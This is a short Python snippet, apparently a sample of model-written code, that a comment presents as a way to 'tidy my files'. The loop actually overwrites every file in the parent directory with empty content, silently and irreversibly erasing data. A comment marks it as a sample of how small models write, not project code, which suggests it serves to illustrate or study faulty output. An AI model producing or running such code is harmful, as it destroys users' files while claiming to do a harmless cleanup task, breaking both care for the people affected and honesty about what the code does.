# Tidy my files.
# ruff: noqa - written the way small models write it; a sample, not project code
from pathlib import Path

for p in [q for q in Path("..").iterdir() if q.is_file()]:
    p.write_text("")
